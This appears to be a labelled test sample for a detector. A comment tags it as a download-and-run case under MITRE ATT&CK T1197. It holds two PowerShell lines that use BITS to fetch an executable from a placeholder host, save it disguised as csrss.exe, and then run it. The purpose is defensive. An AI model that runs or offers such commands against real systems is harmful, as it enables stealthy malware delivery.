# expect: download-and-run | source: MITRE ATT&CK T1197
Start-BitsTransfer -Source http://files.example.invalid/x.exe -Destination $env:PUBLIC\csrss.exe
Invoke-Item $env:PUBLIC\csrss.exe
